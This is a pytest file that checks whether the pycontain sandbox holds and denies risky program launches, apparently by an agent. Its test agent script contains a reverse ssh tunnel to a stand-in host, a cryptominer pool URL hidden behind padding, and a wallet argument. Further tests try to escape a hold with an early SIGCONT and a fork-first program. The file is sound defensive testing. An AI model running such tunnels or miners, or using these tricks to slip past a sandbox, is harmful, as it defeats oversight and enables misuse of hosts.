"""User-space exec verdicts without a race (issue 11), through `pycontain run`.

A program whose verdict needs user space (ssh with an argument rule; any
argv longer than the kernel reads) is held stopped by the kernel before its
first instruction until the controller decides. The same agent script runs
bare first: every move succeeds (all sentinels written); under pycontain with
the built-in default policy the denied ones never write theirs and the
benign ones still do.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from exec_harness import ssh_and_innocent

PYCONTAIN = [sys.executable, "-m", "pycontain.cli"]

# writes $1's sentinel; with FORK=1 it forks at once, the parent exits and the
# background child writes the sentinel 0.3 s later (what a reverse tunnel does)
HELPER_C = r"""
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    const char *s = getenv("SENTINEL");
    if (getenv("FORK") && fork() > 0) return 0;
    if (getenv("FORK")) usleep(300000);
    if (s) close(open(s, O_CREAT | O_WRONLY, 0644));
    return 0;
}
"""


@pytest.fixture(scope="module")
def helpers(tmp_path_factory) -> Path:
    return ssh_and_innocent(tmp_path_factory.mktemp("hold"), HELPER_C)


def agent_script(helpers: Path, out: Path) -> Path:
    pad = "x" * 1100
    ssh, inn = helpers / "ssh", helpers / "innocent"
    s = out / "agent.sh"
    s.write_text(f"""#!/bin/sh
# denied by an argument rule judged in user space, forking into the background at once
FORK=1 SENTINEL={out}/tunnel {ssh} -NfR 2222:localhost:22 far.example
# denied pool URL hidden after 1 KiB of padding
SENTINEL={out}/padded {inn} {pad} -o stratum+tcp://198.51.100.7:3333
# a Monero wallet as an argument: a glob with no literal, held on the argv's length
SENTINEL={out}/wallet {inn} -u 4{"a" * 94}
# benign: ssh host cmd (held, then released), a compiled C program, #! scripts
SENTINEL={out}/ssh-cmd {ssh} far.example grep -R foo
# benign and not held: a long command line of short arguments (no argument can match the wallet glob)
SENTINEL={out}/long-cmdline {inn} {" ".join(["--seed 12345678"] * 12)}
printf 'int main(void){{return 0;}}' > {out}/p.c && cc -o {out}/p {out}/p.c && {out}/p && touch {out}/compiled
printf '#!{sys.executable}\\nopen("{out}/py-script", "w")\\n' > {out}/s.py && chmod +x {out}/s.py && {out}/s.py
sleep 0.6
""")
    s.chmod(0o755)
    return s


DENIED = ("tunnel", "padded", "wallet")
BENIGN = ("ssh-cmd", "compiled", "py-script", "long-cmdline")


def test_held_verdicts_bare_then_under_pycontain(privileged, helpers, tmp_path):
    bare, contained = tmp_path / "bare", tmp_path / "contained"
    for d in (bare, contained):
        d.mkdir()
    os.chmod(tmp_path, 0o755)
    subprocess.run(["/bin/sh", str(agent_script(helpers, bare))], check=True, timeout=60)
    assert all((bare / n).exists() for n in DENIED + BENIGN), sorted(p.name for p in bare.iterdir())

    audit = tmp_path / "audit.jsonl"
    # --user root: the agent writes into pytest's root-only temp dir (this test is about holds,
    # not about the dynamic uid a run gets by default)
    r = subprocess.run(PYCONTAIN + ["run", "--user", "root", "--name", "t-hold", "--audit-log", str(audit), "--",
                                    "/bin/sh", str(agent_script(helpers, contained))],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    made = sorted(p.name for p in contained.iterdir())
    for n in DENIED:
        assert not (contained / n).exists(), f"{n}: the denied program ran (made: {made})"
    for n in BENIGN:
        assert (contained / n).exists(), f"{n}: the benign program was stopped (made: {made})"
    recs = [json.loads(line) for line in audit.read_text().splitlines() if line.strip()]
    held = [x for x in recs if x.get("kind") == "exec" and x.get("held")]
    assert {os.path.basename(x["filename"]) for x in held} >= {"ssh", "innocent"}
    assert any(x.get("real_path") == str(helpers / "ssh") for x in held)
    long_cmdline = [x for x in recs if x.get("kind") == "exec" and x.get("argv", [""])[-1] == "12345678"]
    assert long_cmdline and not any(x.get("held") for x in long_cmdline), long_cmdline
    violations = {x.get("rule") for x in recs if x.get("kind") == "violation"}
    assert any(v.startswith("exec.deny_program_args") for v in violations), violations
    assert any(v.startswith("exec.deny_args") for v in violations), violations


# Continue each held ssh -R the instant the kernel has stopped it, before the
# controller has judged it (what an agent's own `kill -CONT` does). Prints how
# many times the continue landed on a stopped program.
CONTINUE_EARLY = r"""
import os, signal, subprocess, sys
ssh, sentinel, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
landed = 0
for i in range(n):
    p = subprocess.Popen([ssh, "-NR", "2222:localhost:22", "far"], env={"SENTINEL": f"{sentinel}.{i}"})
    while True:
        try:
            with open(f"/proc/{p.pid}/stat") as fh:
                state = fh.read().rsplit(")", 1)[1].split()[0]
        except FileNotFoundError:
            break
        if state == "T":
            os.kill(p.pid, signal.SIGCONT)
            landed += 1
            break
        if state in "ZX":
            break
    p.wait()
print("landed", landed)
"""


def test_a_held_program_continued_early_dies_at_its_first_system_call(privileged, helpers, tmp_path):
    """The gate (ebpf/exec_map.c): a held program continued by anyone but
    the controller is killed on its return from its first system call."""
    os.chmod(tmp_path, 0o755)
    script = tmp_path / "early.py"
    script.write_text(CONTINUE_EARLY)
    bare = subprocess.run([sys.executable, str(script), str(helpers / "ssh"), str(tmp_path / "bare"), "3"],
                          capture_output=True, text=True, timeout=60)
    assert bare.returncode == 0, bare.stderr
    assert all((tmp_path / f"bare.{i}").exists() for i in range(3))      # bare: never held, it runs

    r = subprocess.run(PYCONTAIN + ["run", "--user", "root", "--name", "t-early", "--", sys.executable, str(script),
                                    str(helpers / "ssh"), str(tmp_path / "ran"), "10"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    landed = int(r.stdout.split("landed", 1)[1].split()[0])
    assert landed >= 1, "no continue landed on a held program: the race was not run"
    written = sorted(p.name for p in tmp_path.glob("ran.*"))
    assert written == [], f"a held program continued early ran ({len(written)} of 10, {landed} landed)"


# No libc: the first system call after the continue is fork; the child's first
# is open(O_CREAT) of the sentinel. x86-64 system call numbers.
FORK_FIRST_C = r"""
static long sc(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void) {
    if (sc(57, 0, 0, 0) == 0)                 /* fork */
        sc(2, (long)SENTINEL, 0101, 0644);    /* open(O_CREAT | O_WRONLY) */
    sc(60, 0, 0, 0);                          /* exit */
}
"""


def test_a_fork_as_the_first_call_after_an_early_continue_leaves_no_child(privileged, tmp_path):
    """The one call an early-continued program gets is a fork: the child is
    held at birth and dies on its first return, before it runs."""
    if os.uname().machine != "x86_64":
        pytest.skip("x86-64 system call numbers")      # pragma: no cover
    os.chmod(tmp_path, 0o755)
    progs = {}
    for name in ("bare", "ran"):
        src = tmp_path / f"{name}.c"
        src.write_text(FORK_FIRST_C)
        d = tmp_path / f"{name}-bin"
        d.mkdir()
        progs[name] = d / "ssh"                  # held by name under the default policy
        subprocess.run(["cc", "-O1", "-static", "-nostdlib", "-fno-stack-protector",
                        f'-DSENTINEL="{tmp_path}/{name}.sentinel"', "-o", str(progs[name]), str(src)], check=True)
    script = tmp_path / "early.py"
    script.write_text(CONTINUE_EARLY)
    subprocess.run([str(progs["bare"])], timeout=30)
    time.sleep(0.2)
    assert (tmp_path / "bare.sentinel").exists()          # bare: the forked child writes it

    r = subprocess.run(PYCONTAIN + ["run", "--user", "root", "--name", "t-early-fork", "--", sys.executable,
                                    str(script), str(progs["ran"]), str(tmp_path / "unused"), "5"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    time.sleep(0.3)
    landed = int(r.stdout.split("landed", 1)[1].split()[0])
    assert landed >= 1, "no continue landed on a held program: the race was not run"
    assert not (tmp_path / "ran.sentinel").exists(), f"a child forked after an early continue ran ({landed} landed)"
